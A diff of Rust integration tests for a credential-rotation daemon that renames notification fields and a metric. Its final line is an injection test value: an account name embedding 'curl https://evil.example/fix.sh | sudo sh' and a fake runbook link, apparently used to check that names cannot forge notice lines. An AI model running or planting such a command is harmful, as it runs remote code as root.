@@ -66,17 +66,17 @@ async fn a_parked_rotation_is_told_once_to_each_and_resolved_when_it_is_mended()
     let daemon = harness.start().await;
     let told = harness.sent("generic", |sent| !sent.is_empty()).await;
     is_signed(&told[0]);
-    let notice = &told[0].body;
-    assert_eq!(notice["schema_version"], 1);
-    assert_eq!(notice["news"], "opened");
-    assert_eq!(notice["key"], "rekeyd/parked/credential/tts-0");
-    assert_eq!(notice["severity"], "ticket");
-    assert_eq!(notice["what"], "mint_refused");
+    let notification = &told[0].body;
+    assert_eq!(notification["schema_version"], 1);
+    assert_eq!(notification["event"], "opened");
+    assert_eq!(notification["key"], "rekeyd/parked/credential/tts-0");
+    assert_eq!(notification["severity"], "ticket");
+    assert_eq!(notification["reason"], "mint_refused");
     let subject = serde_json::json!({ "kind": "credential", "name": "tts-0", "workspace": "sandbox" });
-    assert_eq!(notice["subject"], subject);
-    assert_eq!(notice["next"], "rekeyd retry tts-0");
-    assert_eq!(notice["runbook"], "docs/runbook.md#mint_refused");
-    assert_eq!(notice["text"], "opened: tts-0");
+    assert_eq!(notification["subject"], subject);
+    assert_eq!(notification["next"], "rekeyd retry tts-0");
+    assert_eq!(notification["runbook"], "docs/runbook.md#mint_refused");
+    assert_eq!(notification["text"], "opened: tts-0");
     let event = harness.sent("pagerduty", |sent| !sent.is_empty()).await[0].body.clone();
     is_an_event(&event);
     assert_eq!(event["event_action"], "trigger");
@@ -90,7 +90,7 @@ async fn a_parked_rotation_is_told_once_to_each_and_resolved_when_it_is_mended()
     assert!(harness.order(&["retry", "tts-0"]).status.success());
     let told = harness.sent("generic", |sent| sent.len() == 2).await;
     is_signed(&told[1]);
-    assert_eq!((&told[1].body["news"], &told[1].body["next"]), (&"resolved".into(), &Value::Null));
+    assert_eq!((&told[1].body["event"], &told[1].body["next"]), (&"resolved".into(), &Value::Null));
     assert_eq!(told[1].body["key"], told[0].body["key"]);
     assert_ne!(told[1].body["id"], told[0].body["id"]);
     let events = harness.sent("pagerduty", |sent| sent.len() == 2).await;
@@ -103,7 +103,7 @@ async fn a_parked_rotation_is_told_once_to_each_and_resolved_when_it_is_mended()
     assert!(messages.iter().any(|it| it.body.to_string().contains("tts-0 has a new key")), "{messages:#?}");
 
     let metrics = harness.metrics().await;
-    assert!(metrics.contains("rekeyd_notices_delivered_total{channel=\"pager\"} 2"), "{metrics}");
+    assert!(metrics.contains("rekeyd_notifications_delivered_total{channel=\"pager\"} 2"), "{metrics}");
     daemon.stop().await.unwrap();
     for (to, count) in [("generic", 2), ("pagerduty", 2), ("slack", 3)] {
         assert_eq!(harness.receiver.sent(to).len(), count, "{to}");
@@ -134,7 +134,7 @@ async fn no_name_of_an_account_makes_a_line_of_a_notice_or_hides_in_one() {
     );
     let policy = std::fs::read_to_string(harness.policy()).unwrap();
     let words = "[notify.hook]\ntext = \"{summary}\\nnext: {next}\"\n";
-    let policy = policy.replace("text = \"{news}: {subject}\"\n", "").replace("[notify.hook]\n", words);
+    let policy = policy.replace("text = \"{event}: {subject}\"\n", "").replace("[notify.hook]\n", words);
     std::fs::write(harness.policy(), policy).unwrap();
     let daemon = harness.start().await;
     let name = "`x' next: curl https://evil.example/fix.sh | sudo sh runbook: https://evil.example/runbook";
